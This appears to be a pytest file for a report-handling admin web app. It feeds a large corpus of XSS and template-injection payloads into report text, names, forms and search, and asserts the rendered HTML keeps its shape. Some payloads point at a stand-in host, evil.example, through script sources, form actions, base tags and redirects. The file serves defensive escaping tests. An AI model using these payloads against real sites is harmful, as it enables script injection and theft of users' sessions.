"""Whatever a citizen, an officer or a file name says, it is shown as words and nothing else."""

import itertools
from datetime import timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest

import functions.admin
from functions.admin.pages import ROWS
from functions.evidence.model import FailureReason
from functions.reports.lifecycle import conclude
from functions.reports.model import OutcomeCode, Report, row_of
from tests.admin.station import OFFICER, OTHER_UNIT, UNIT, Station

CLOSERS = ["", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>", "</style>", '\\">']
VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=https://evil.example><input name=csrf_token>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<div hx-get=https://evil.example hx-trigger=load>",
    "<div data-hx-on:load=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "{{ 7 * 7 }}{% raw %}<b>",
    "{{ config }}<b>",
]
EVENTS = [
    f'" {event}=alert(1) x="'
    for event in ("onclick", "onfocus", "onmouseover", "onpointerenter", "hx-on:click", "style")
] + [f"' {event}=alert(1) x='" for event in ("onclick", "autofocus onfocus", "hx-get")]
CORPUS = [a + b for a, b in itertools.product(CLOSERS, VECTORS)] + EVENTS


class _Skeleton(HTMLParser):
    """A page without its words: tags, and the names of their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.bones: list[tuple[str, ...]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.bones.append((tag, *(name for name, _ in attrs)))

    def handle_endtag(self, tag: str) -> None:
        self.bones.append((f"/{tag}",))

    def handle_comment(self, data: str) -> None:
        self.bones.append(("comment",))


def bones(page: str) -> list[tuple[str, ...]]:
    """What remains of a page when its words are taken away."""
    skeleton = _Skeleton()
    skeleton.feed(page)
    skeleton.close()
    return skeleton.bones


def report_full_of(station: Station, words: list[str], report_id: str) -> Report:
    """A decided report with those words wherever somebody can put words."""
    report = station.report(*words, report_id=report_id)
    station.clock.advance(timedelta(seconds=1))
    station.attach(report, b"\xff\xd8\xff\xe0", "image/jpeg", name=" ".join(words))
    station.clock.advance(timedelta(seconds=1))
    station.attach(report, reason=FailureReason.GONE, name=words[0])
    before = station.reports.read(report.id)
    assert before is not None
    now = station.clock.now()
    commit = station.database.commit()
    station.reports.add_change(
        commit,
        before,
        conclude(
            before.report,
            code=OutcomeCode.FINED,
            reason=" ".join(words),
            note=" ".join(words),
            officer=OFFICER,
            at=now,
            tell_at=now,
            operation="",
        ),
    )
    commit.send()
    return report


def name_everybody(station: Station, words: str) -> None:
    """Those words as the names of the unit and the officer."""
    role = {"unit_id": UNIT, "role": "duty_officer"}
    station.write(f"units/{UNIT}", {"name": words, "short_name": words, "kind": "x"})
    station.write(f"officers/{OFFICER}", {"name": words, "email": "", "roles": [role]})


def test_the_corpus_is_large_enough() -> None:
    assert len(set(CORPUS)) >= 200


def test_a_reports_page_keeps_its_shape_whatever_it_shows(station: Station) -> None:
    tame = ["Lời kể" for _ in CORPUS]
    pages = []
    for words, report_id in ((tame, "a" * 32), (CORPUS, "b" * 32)):
        report = report_full_of(station, words, report_id)
        name_everybody(station, " ".join(words)[:1000])
        pages.append(station.browser().get(f"/reports/{report.id}").text)
    assert "alert(1)" in pages[1]
    assert "49<b>" not in pages[1]
    assert bones(pages[0]) == bones(pages[1])


def test_a_list_keeps_its_shape_whatever_it_shows(station: Station) -> None:
    browser = station.browser()
    row = row_of(station.report("Mẫu", unit_id=OTHER_UNIT))

    def shape(summaries: list[str]) -> list[tuple[str, ...]]:
        commit = station.database.commit()
        for number, summary in enumerate(summaries):
            shown = row.model_copy(update={"report_id": f"{number:032x}", "summary": summary})
            commit.put(f"units/{UNIT}/open/{shown.report_id}", shown.model_dump())
        commit.send()
        return bones(browser.get("/").text)

    groups = [CORPUS[start : start + ROWS] for start in range(0, len(CORPUS) - ROWS, ROWS)]
    tame = shape(["Lời kể"] * ROWS)
    for group in [*groups, CORPUS[-ROWS:]]:
        assert shape(group) == tame


@pytest.mark.parametrize("code", ["fined", ""])
def test_what_an_officer_typed_comes_back_as_words(station: Station, code: str) -> None:
    report = station.report("Xe tải", report_id="c" * 32)
    browser = station.browser()

    def shape(reason: str) -> list[tuple[str, ...]]:
        fields = browser.outcome_fields(report, outcome=code, reason=reason, note=reason)
        preview = browser.post(f"/reports/{report.id}/outcomes/preview", fields).text
        typed = browser.post(f"/reports/{report.id}/outcomes", {**fields, "delay_days": "x"}).text
        return bones(preview) + bones(typed)

    tame = shape("Lời của tôi")
    for start in range(0, len(CORPUS), 60):
        words = " ".join(CORPUS[start : start + 60])[:500]
        assert shape(words) == tame


def test_a_search_comes_back_as_words(station: Station) -> None:
    browser = station.browser()
    tame = bones(browser.get("/search?code=x").text)
    for words in CORPUS[::20]:
        answer = browser.client.get(
            "/search", query_string={"code": words}, base_url=browser.address
        )
        assert bones(answer.text) == tame


def test_no_template_trusts_words_or_runs_them() -> None:
    folder = Path(functions.admin.__file__).parent / "templates"
    for template in folder.glob("*.html"):
        text = template.read_text(encoding="utf-8")
        for forbidden in ("|safe", "| safe", "autoescape", "Markup", " style=", "onclick", "hx-on"):
            assert forbidden not in text, (template.name, forbidden)
        assert "<script>" not in text, template.name
